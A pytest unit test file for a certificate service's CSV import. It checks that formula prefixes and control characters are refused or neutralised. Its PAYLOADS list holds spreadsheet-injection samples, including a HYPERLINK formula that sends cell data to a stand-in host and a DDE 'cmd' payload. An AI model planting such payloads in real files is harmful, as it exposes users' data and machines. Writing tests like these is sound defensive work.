"""No field carries a spreadsheet formula or a control character: refused in the decisions
file with row and column, named by code point; neutralised in what the service writes."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from ecert.vocab.cells import BIDI_CONTROLS, FORMULA_PREFIXES, code_points, control_characters, neutralise_cell
from issuer.decisions.fields import COLUMNS
from tests.unit.csv_rows import GOOD, english, errors, parse, row

pytestmark = pytest.mark.usefixtures(english.__name__)

CONTROLS = [chr(code) for code in [*range(0x20), 0x7F, *range(0x80, 0xA0)]] + sorted(BIDI_CONTROLS)
# NUL makes the whole file binary (``file.binary``) before any row is read.
IN_A_ROW = CONTROLS[1:]
# Every column whose value is text that is stored, printed or exported; the photo is a path.
# A photo path and a mobile number are never stored as typed (a path, 11 digits).
TEXT_COLUMNS = [column for column in COLUMNS if column not in ("photo", "mobile")]
PREFIXES = sorted(FORMULA_PREFIXES - {"\t", "\r"})
# What spreadsheet formula injection looks like in practice.
PAYLOADS = ["{}SUM(1+1)", '{}HYPERLINK("http://x.invalid/?"&A1,"点击")', "{}cmd|' /C calc'!A0", "{}1"]


def _value(column: str) -> str:
    return GOOD[column] or "a.jpg"


@pytest.mark.parametrize("column", COLUMNS)
@pytest.mark.parametrize("char", IN_A_ROW, ids=lambda c: f"U+{ord(c):04X}")
def test_a_control_character_inside_any_value_is_refused_by_code_point(column: str, char: str, tmp_path: Path) -> None:
    value = _value(column)
    typed = value[:1] + char + (value[1:] or value)  # inside, where no trimming reaches
    found = errors(row(**{column: typed}), base_dir=tmp_path)
    assert found == [f"row 2, column {column}: contains the control character(s) U+{ord(char):04X}; remove them"]
    assert char not in "".join(found)


def test_several_control_characters_are_each_named_once(tmp_path: Path) -> None:
    assert errors(row(employer="重庆\x07\x1b[31m市\x07"), base_dir=tmp_path) == [
        "row 2, column employer: contains the control character(s) U+0007, U+001B; remove them"
    ]


@pytest.mark.parametrize("column", TEXT_COLUMNS)
@pytest.mark.parametrize("prefix", PREFIXES, ids=lambda c: f"U+{ord(c):04X}")
@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_value_a_spreadsheet_would_run_as_a_formula_is_refused(
    column: str, prefix: str, payload: str, tmp_path: Path
) -> None:
    found = errors(row(**{column: payload.format(prefix)}), base_dir=tmp_path)
    assert found == [
        f"row 2, column {column}: starts with {prefix}, which a spreadsheet would run as a formula;"
        f" remove the leading {prefix}"
    ]


@pytest.mark.parametrize("lead", ["\t", "\r", " ", "\t\r "], ids=repr)
@pytest.mark.parametrize("prefix", ["=", "+", "-", "@"])
def test_a_formula_behind_a_tab_or_carriage_return_is_refused_too(lead: str, prefix: str, tmp_path: Path) -> None:
    # Leading white space is trimmed from every value, so the formula is what is left.
    found = errors(row(employer=f"{lead}{prefix}SUM(1+1)"), base_dir=tmp_path)
    assert found == [
        f"row 2, column employer: starts with {prefix}, which a spreadsheet would run as a formula;"
        f" remove the leading {prefix}"
    ]


@pytest.mark.parametrize("column", TEXT_COLUMNS)
def test_the_other_rows_are_still_read(column: str, tmp_path: Path) -> None:
    other = row(id_number="500111199001010029", name="王芳", doc_no="足人社发〔2025〕99号")
    parsed = parse(row(**{column: "=1"}), other, base_dir=tmp_path)
    assert [decision.row for decision in parsed.decisions] == [3]
    assert [(error.row, error.column, error.code) for error in parsed.errors] == [(2, column, "text.formula")]


@pytest.mark.parametrize("value", ["重庆-大足", "a+b", "张@三", "x=1"])
def test_the_characters_are_fine_inside_a_value(value: str, tmp_path: Path) -> None:
    assert all("formula" not in error for error in errors(row(specialty=value), base_dir=tmp_path))


def test_a_photo_path_may_start_with_a_dash(tmp_path: Path) -> None:
    assert all("formula" not in error for error in errors(row(photo="-1.jpg"), base_dir=tmp_path))


@pytest.mark.parametrize("prefix", sorted(FORMULA_PREFIXES), ids=lambda c: f"U+{ord(c):04X}")
@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_spreadsheet_reads_a_neutralised_formula_as_text(prefix: str, payload: str) -> None:
    value = payload.format(prefix)
    cell = neutralise_cell(value)
    assert cell == "'" + value
    # Written and read back by the csv module, the quote is still the first character.
    buffer = io.StringIO(newline="")
    csv.writer(buffer).writerow([cell])
    assert next(csv.reader(io.StringIO(buffer.getvalue(), newline="")))[0].startswith("'")


@pytest.mark.parametrize("value", ["", "张三", "ZC500111-2026-000001-H", "'=already", "重庆-大足", " =1"])
def test_anything_else_is_written_unchanged(value: str) -> None:
    assert neutralise_cell(value) == value


@pytest.mark.parametrize("char", CONTROLS, ids=lambda c: f"U+{ord(c):04X}")
def test_controls_are_found_and_named_never_shown(char: str) -> None:
    assert control_characters(f"a{char}b{char}") == (char,)
    assert code_points(control_characters(f"a{char}b")) == f"U+{ord(char):04X}"


@pytest.mark.parametrize("char", ["a", "张", "𡒄", " ", "\u00a0", "\u3000", "·", "\u200b"])
def test_printing_characters_are_not_controls(char: str) -> None:
    assert control_characters(char) == ()
